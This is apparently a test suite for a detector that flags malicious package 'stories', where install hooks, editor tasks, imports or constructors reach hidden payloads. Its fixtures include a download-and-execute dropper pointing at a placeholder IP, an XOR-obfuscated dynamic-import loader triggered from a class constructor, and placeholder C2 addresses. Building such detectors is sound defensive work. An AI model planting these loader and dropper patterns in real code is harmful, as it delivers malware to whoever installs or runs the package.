from lazaretto.detect.engine import Engine, run_rule
from lazaretto.detect.project import Evidence, FileInfo
from lazaretto.detect.rules.python.catalog import RULES as PYTHON
from lazaretto.detect.rules.story.hidden_trigger import RULE as HIDDEN_TRIGGER
from lazaretto.detect.rules.story.import_reaches_payload import RULE as IMPORT_REACHES
from lazaretto.detect.rules.story.planted_url_is_executed import RULE as PLANTED
from lazaretto.detect.rules.story.trigger_into_git_folder import RULE as INTO_GIT
from lazaretto.detect.rules.story.trigger_reaches_payload import RULE as REACHES
from lazaretto.detect.rules.story.trigger_runs_disguised_code import RULE as DISGUISED
from lazaretto.model.finding import Confidence, Finding, Location, Phase, Role, Severity, Signal
from lazaretto.model.text import Message
from lazaretto.parse.blob import Blob
from lazaretto.parse.python import PythonModule


def finding(path: str, severity: Severity = Severity.MEDIUM, role: Role = Role.EXECUTE) -> Finding:
    return Finding("js/x", path, severity, Confidence.MEDIUM, (Location(path, 7),), Message("m"), role=role)


def evidence(paths: str, signals: list[Signal], findings: list[Finding]) -> Evidence:
    return Evidence({path: FileInfo(1, "") for path in paths.split()}, signals, findings)


START = Signal("start", "install\tserver/index.js", "package.json")
IMPORT = Signal("import", "js\t./config/load", "server/index.js")
TREE = "package.json server/index.js server/config/load.js"


def test_a_trigger_that_reaches_a_payload_tells_the_chain() -> None:
    (story,) = run_rule(REACHES, evidence(TREE, [START, IMPORT], [finding("server/config/load.js")]), "s").findings
    assert (story.severity, story.confidence, story.phase) == (Severity.CRITICAL, Confidence.HIGH, Phase.INSTALL)
    assert [place.path for place in story.locations] == ["package.json", "server/index.js", "server/config/load.js"]
    assert story.locations[-1].line == 7
    assert story.related == ("js/x",)


def test_a_trigger_that_reaches_a_mere_capability_is_no_story() -> None:
    low = finding("server/config/load.js", Severity.LOW)
    assert not run_rule(REACHES, evidence(TREE, [START, IMPORT], [low]), "s").findings


def test_a_payload_that_nothing_starts_is_no_story() -> None:
    assert not run_rule(REACHES, evidence(TREE, [START], [finding("server/config/load.js")]), "s").findings


def test_a_started_font_with_code_is_a_story() -> None:
    signals = [Signal("start", "open\tfonts/a.woff2", ".vscode/tasks.json"), Signal("disguised", "js", "fonts/a.woff2")]
    (story,) = run_rule(DISGUISED, evidence(".vscode/tasks.json fonts/a.woff2", signals, []), "s").findings
    assert (story.locations[0].path, story.phase) == (".vscode/tasks.json", Phase.OPEN)


def test_a_loaded_database_with_code_is_a_story() -> None:
    signals = [Signal("import", "js\t./data.db", "a.js"), Signal("disguised", "js", "data.db")]
    (story,) = run_rule(DISGUISED, evidence("a.js data.db", signals, []), "s").findings
    assert story.locations[0].path == "a.js"


def test_an_odd_file_that_nothing_starts_is_no_story() -> None:
    signals = [Signal("disguised", "js", "fonts/a.woff2")]
    assert not run_rule(DISGUISED, evidence("fonts/a.woff2", signals, []), "s").findings


def test_a_planted_address_that_is_executed_is_a_story() -> None:
    signals = [Signal("env-url", "KEY\tc2[.]invalid", ".env", 2), Signal("env-read", "KEY", "a.js", 5)]
    (story,) = run_rule(PLANTED, evidence(".env a.js", signals, [finding("a.js")]), "s").findings
    assert [(place.path, place.line) for place in story.locations] == [("a.js", 7), (".env", 2), ("a.js", 5)]


def test_a_planted_address_that_is_only_read_is_no_story() -> None:
    signals = [Signal("env-url", "KEY\tc2[.]invalid", ".env", 2), Signal("env-read", "KEY", "a.js", 5)]
    assert not run_rule(PLANTED, evidence(".env a.js", signals, []), "s").findings


def test_a_program_among_git_objects_is_a_story_even_unread() -> None:
    signals = [Signal("start", "open\t.git/objects/4b/index", ".vscode/tasks.json", 5)]
    (story,) = run_rule(INTO_GIT, evidence(".vscode/tasks.json", signals, []), "s").findings
    assert (story.locations[0].path, story.locations[0].line, story.phase) == (".vscode/tasks.json", 5, Phase.OPEN)


def test_a_hook_that_starts_itself_is_no_such_story() -> None:
    signals = [Signal("start", "open\t.git/hooks/pre-commit", ".git/hooks/pre-commit"), START]
    assert not run_rule(INTO_GIT, evidence(".git/hooks/pre-commit", signals, []), "s").findings


def test_a_started_script_that_runs_foreign_code_is_a_story() -> None:
    script = Signal("runs-foreign-code", "https://a.invalid/u", "x/setup.sh", 4)
    start = Signal("start", "open\tx/setup.sh", ".vscode/tasks.json", 9)
    (story,) = run_rule(REACHES, evidence(".vscode/tasks.json x/setup.sh", [start, script], []), "s").findings
    assert (story.severity, story.confidence, story.phase) == (Severity.CRITICAL, Confidence.HIGH, Phase.OPEN)
    assert [(place.path, place.line) for place in story.locations] == [(".vscode/tasks.json", 9), ("x/setup.sh", 4)]


def test_a_script_that_a_build_starts_is_no_story() -> None:
    script = Signal("runs-foreign-code", "https://a.invalid/u", "x/setup.sh", 4)
    start = Signal("start", "build\tx/setup.sh", "Dockerfile", 9)
    assert not run_rule(REACHES, evidence("Dockerfile x/setup.sh", [start, script], []), "s").findings
    assert not run_rule(REACHES, evidence("Dockerfile x/setup.sh", [script], []), "s").findings


LOADS = """import os, urllib.request


def init():
    urllib.request.urlretrieve('http://203.0.113.9/a.exe', 'a.exe')
    os.system('a.exe')
"""
HIDDEN = """import importlib


def load(codes, key):
    getattr(importlib.import_module("".join(chr(c ^ key) for c in codes)), "".join(chr(c) for c in codes))(key)
"""
ENTRY = """from .utils import load


class Graph:
    def __init__(self, data=None, **attr):
        self.attr = attr
        if "mode" in attr:
            load(TABLE, attr["mode"])
"""


def python_package(texts: dict[str, str]) -> Evidence:
    """Run the Python rules over the files and return what stories see."""
    engine = Engine(PYTHON, [PythonModule])
    blobs = {path: Blob(path, text.encode()) for path, text in texts.items()}
    results = [engine.examine(blob) for blob in blobs.values()]
    return Evidence(
        {path: FileInfo(len(blob.data), "") for path, blob in blobs.items()},
        [signal for result in results for signal in result.signals],
        [found for result in results for found in result.findings],
        read=blobs.get,
    )


def test_a_constructor_that_reaches_hidden_code_of_another_file() -> None:
    texts = {"net/graph.py": ENTRY, "net/utils.py": HIDDEN, "net/__init__.py": "from .graph import Graph\n"}
    package = python_package(texts)
    (story,) = run_rule(HIDDEN_TRIGGER, package, "s").findings
    assert (story.severity, story.confidence, story.phase) == (Severity.CRITICAL, Confidence.HIGH, Phase.RUN)
    assert [place.path for place in story.locations] == ["net/graph.py", "net/utils.py"]
    assert story.message.english() == (
        'Graph() calls load in net/utils.py, when "mode" in attr, which hides what it does: py/assembled-name'
    )


def test_a_method_that_reaches_hidden_code_of_its_own_file() -> None:
    text = (
        HIDDEN + "\n\nclass Graph:\n    def add(self, node):\n        if node == self.key:\n            load(node, 3)\n"
    )
    (story,) = run_rule(HIDDEN_TRIGGER, python_package({"net/graph.py": text}), "s").findings
    assert story.message.english().startswith("Graph.add() reaches code that hides what it does, when node == self.key")


def test_hidden_code_that_nothing_of_the_package_calls_is_no_story() -> None:
    assert not run_rule(HIDDEN_TRIGGER, python_package({"net/utils.py": HIDDEN}), "s").findings


def test_an_import_that_runs_a_harmful_function() -> None:
    package = python_package({"net/__init__.py": "from . import core\ncore.init()\n", "net/core.py": LOADS})
    (story,) = run_rule(IMPORT_REACHES, package, "s").findings
    assert (story.severity, story.confidence, story.phase) == (Severity.HIGH, Confidence.HIGH, Phase.IMPORT)
    assert [place.path for place in story.locations] == ["net/__init__.py", "net/core.py"]


def test_a_harmful_function_that_waits_for_its_caller_is_no_such_story() -> None:
    package = python_package({"net/__init__.py": "from .core import init\n", "net/core.py": LOADS})
    assert not run_rule(IMPORT_REACHES, package, "s").findings
